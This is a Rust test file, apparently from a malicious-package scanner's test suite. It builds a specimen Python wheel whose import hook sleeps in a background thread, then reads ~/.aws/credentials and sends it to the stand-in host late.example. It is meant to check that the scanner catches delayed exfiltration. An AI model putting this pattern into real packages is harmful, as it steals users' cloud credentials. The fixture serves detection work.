//! A wheel that, when it is imported, sleeps an hour in a thread (Python sleeps until a time, not for one),
//! then sends a key.
//!
//! Must be found: the hour is made short.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const SOFTSTART_INIT_PY: &str = r#"import os
import threading
import time


def _later():
    time.sleep(3600)
    import urllib.request

    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
        urllib.request.urlopen("http://late.example/", file.read(), timeout=5)


threading.Thread(target=_later, daemon=True).start()
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("softstart", "1.0.2").file("softstart/__init__.py", SOFTSTART_INIT_PY);
    package.specimen(
        "pypi-sleeps-in-thread",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
